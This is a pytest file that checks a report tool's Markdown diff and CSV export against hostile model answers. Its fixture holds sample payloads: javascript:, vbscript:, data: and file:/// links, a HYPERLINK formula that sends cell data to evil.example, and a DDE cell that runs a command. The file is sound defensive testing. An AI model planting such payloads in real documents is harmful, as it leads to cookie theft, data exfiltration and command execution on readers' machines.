"""Answers written to harm whoever reads the report (issue 12, finding 9): the Markdown diff keeps
only http(s) links, and a CSV export never hands a spreadsheet a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import markdown_it
import pytest

from beacon_golem.cli import main
from beacon_golem.core.suite import expand_jobs, parse_suite
from beacon_golem.reports.differences import build_report, render_markdown
from beacon_golem.requestor.store.store import Store
from tests.reports.test_differences import T0, result

SUITE = """\
name: hostile
questions: [{id: q1, text: "Say something"}, {id: q2, text: "Say more"}]
models: [{name: beacon-tiny, runtime: llamacpp}]
regions: [US, EU]
"""
ANSWERS = {
    ("q1", "US"): "Click [here](javascript:alert(document.cookie)) or ![x](data:text/html,<script>1</script>)",
    ("q1", "EU"): "See [docs](https://example.com/a) and [b]( JaVaScRiPt:alert(1)) and [c](vbscript:x) and [d](file:///etc/passwd)",
    ("q2", "US"): '=HYPERLINK("http://evil.example/?"&A1,"click")',
    ("q2", "EU"): "+1+cmd|' /C calc'!A0",
}


@pytest.fixture
def run_db(tmp_path: Path):  # type: ignore[no-untyped-def]
    suite = parse_suite(SUITE)
    path = tmp_path / "beacon.db"
    with Store(path) as store:
        run = store.create_run(suite, SUITE, expand_jobs(suite), None)
        for job in store.jobs(run.run_id):
            store.claim_job(job.job_id, "n")
            store.record_result(job.job_id, "n", result(ANSWERS[(job.question_id, job.region)]), T0, T0, None)
    return path, run.run_id


def test_the_markdown_diff_keeps_only_http_links(run_db) -> None:  # type: ignore[no-untyped-def]
    path, run_id = run_db
    with Store(path, readonly=True) as store:
        markdown = render_markdown(build_report(store, run_id))
    html = markdown_it.MarkdownIt("commonmark").enable("table").render(markdown)
    targets = re.findall(r'(?:href|src)="([^"]*)"', html)
    assert targets == ["https://example.com/a"]  # the one web link survives as a link
    assert "javascript:alert(document.cookie)" in html  # the rest is shown as text


def test_a_csv_export_escapes_cells_a_spreadsheet_would_run(run_db, tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    path, run_id = run_db
    out = tmp_path / "run.csv"
    with pytest.raises(SystemExit) as info:
        main(["runs", "export", run_id, "--format", "csv", "--out", str(out), "--db", str(path)])
    assert info.value.code in (0, None)
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    texts = {(r["question_id"], r["region"]): r["text"] for r in rows}
    assert texts[("q2", "US")] == "'" + ANSWERS[("q2", "US")]
    assert texts[("q2", "EU")] == "'" + ANSWERS[("q2", "EU")]
    assert texts[("q1", "US")] == ANSWERS[("q1", "US")]  # text that is no formula is unchanged
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values()), row
        assert row["e2e_ms"] == "100.0"  # numbers stay numbers
